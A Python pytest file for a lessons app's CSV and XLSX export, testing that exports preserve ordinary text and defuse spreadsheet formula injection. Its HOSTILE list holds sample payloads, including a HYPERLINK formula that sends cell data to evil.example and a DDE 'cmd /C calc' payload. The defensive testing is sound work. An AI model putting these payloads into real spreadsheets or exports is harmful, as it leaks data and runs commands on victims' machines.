"""What visitors take home: the same rows, what they are about, and nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from xml.etree import ElementTree

import pandas as pd
import pytest

from lessons import columns, export
from lessons.tables import tables
from tests import sample

ABOUT = {"Titel": "Lessen, alle", "Filters": "geen", "Licentie": "CC BY 4.0", "Link": "/lessen?zoek==1+1"}
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"klik")',
    "+31 70 123 45 67",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "a;=1+1",
    "a\n=1+1",
    '","=1+1',
]
HARMLESS = [
    "gewoon",
    "1~2~3 en ~~weg~~",
    "a,b;c",
    'zei: "ja"',
    "C:\\nieuw\\",
    "null",
    "NA",
    "# geen uitleg",
    "👨‍👩‍👧",
    "regel 1\n\nregel 2",
    "x; - y is -1",
]
NAMESPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def read_csv(raw: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(raw), comment="#", encoding="utf-8-sig", keep_default_na=False, dtype=str)


def read_xlsx(raw: bytes, sheet: int = 1) -> list[list[str]]:
    """The shown texts of a sheet, row by row."""
    with zipfile.ZipFile(io.BytesIO(raw)) as book:
        shared = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
        texts = ["".join(part.text or "" for part in item.iter(f"{NAMESPACE}t")) for item in shared]
        rows = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{sheet}.xml")).iter(f"{NAMESPACE}row")
        return [[_shown(cell, texts) for cell in row.iter(f"{NAMESPACE}c")] for row in rows]


def _shown(cell: ElementTree.Element, texts: list[str]) -> str:
    value = cell.findtext(f"{NAMESPACE}v") or ""
    return texts[int(value)].replace("_x000D_", "\r") if cell.get("t") == "s" else value


def test_csv_gives_back_the_rows_of_the_frame() -> None:
    frame = tables(sample.catalogue(), "nl").judgements
    back = read_csv(export.csv(frame, ABOUT))
    assert list(back.columns) == list(frame.columns)
    assert len(back) == len(frame)
    for column in ("id", "reason", "state", "date"):
        assert back[column].tolist() == frame[column].astype("object").tolist()
    assert back["level"].tolist() == ["2", "", "", "3"]
    assert back["day"].tolist()[0] == "2014-12-31"


def test_csv_opens_with_its_accents_and_says_what_it_is_about() -> None:
    raw = export.csv(pd.DataFrame({"naam": ["coördinatie"]}), ABOUT)
    assert raw.startswith("\ufeff#,".encode())
    lines = raw.decode("utf-8-sig").split("\r\n")
    assert lines[:2] == ['#,"Titel","Lessen, alle"', '#,"Filters","geen"']
    assert lines[4:] == ['"naam"', '"coördinatie"', ""]


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_comes_back_letter_for_letter(text: str) -> None:
    frame = pd.DataFrame({"tekst": pd.Series([text], dtype="str"), "n": [-1]})
    back = read_csv(export.csv(frame, ABOUT))
    assert back["tekst"].tolist() == [text.replace("; - y", ";' - y")]
    assert back["n"].tolist() == ["-1"]
    assert read_xlsx(export.xlsx(frame, ABOUT))[1] == [text, "-1"]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("quotes", [csv.QUOTE_MINIMAL, csv.QUOTE_NONE])
def test_no_reader_finds_a_cell_that_begins_a_formula(delimiter: str, quotes: int) -> None:
    """Whatever sign a spreadsheet takes for the end of a cell, and whether or not it minds the quotes."""
    frame = pd.DataFrame({"=kop": pd.Series(HOSTILE, dtype="str"), "soort": pd.Categorical(["=1"] * len(HOSTILE))})
    text = export.csv(frame, {"=naam": "=waarde", "\n=x": "a\n=b"}).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quotes):  # type: ignore[arg-type]
        assert not [cell for cell in row if re.match(r"\s*[=+\-@＝＋－＠]", cell)], row


@pytest.mark.parametrize("text", HOSTILE[:-1])
def test_a_formula_in_a_text_gets_a_quote_before_it(text: str) -> None:
    back = read_csv(export.csv(pd.DataFrame({"tekst": pd.Series([text], dtype="str")}), {}))
    assert "'" in back["tekst"][0]
    assert back["tekst"][0].replace("'", "").replace("\r\n", "\n") == text.replace("'", "").replace("\r\n", "\n")


def test_xlsx_holds_no_formula_and_no_link_and_keeps_every_letter() -> None:
    frame = pd.DataFrame({"=kop": pd.Series([*HOSTILE, "https://evil.example/"], dtype="str")})
    raw = export.xlsx(frame, {"=naam": "=waarde"})
    with zipfile.ZipFile(io.BytesIO(raw)) as book:
        for name in book.namelist():
            assert not re.search(rb"<f[ >]|<hyperlink", book.read(name)), name
    assert [row[0] for row in read_xlsx(raw)] == ["=kop", *frame["=kop"]]
    assert read_xlsx(raw, sheet=2)[0] == ["=naam", "=waarde"]


def test_xlsx_keeps_numbers_as_numbers_and_the_unknown_empty() -> None:
    frame = tables(sample.catalogue(), "nl").series[["series", "target", "percent", "day"]]
    assert read_xlsx(export.xlsx(frame, ABOUT))[1:] == [["jobs", "10", "2015-12-31"], ["jobs", "61", "2017-12-31"]]


@pytest.mark.parametrize("name", ["lessons", "judgements", "series", "links", "problems"])
def test_an_empty_frame_still_makes_both_files(name: str) -> None:
    empty = columns.frame(name, [])
    assert list(read_csv(export.csv(empty, ABOUT)).columns) == list(empty.columns)
    assert read_xlsx(export.xlsx(empty, ABOUT)) == [list(empty.columns)]


def test_text_that_no_file_can_hold_is_replaced_or_cut() -> None:
    frame = pd.DataFrame({"tekst": pd.Series(["\ud800x", "a" * 40_000], dtype="object")})
    assert b"x" in export.csv(frame, {})
    assert len(read_xlsx(export.xlsx(frame, {}))[2][0]) == export.LONGEST_CELL
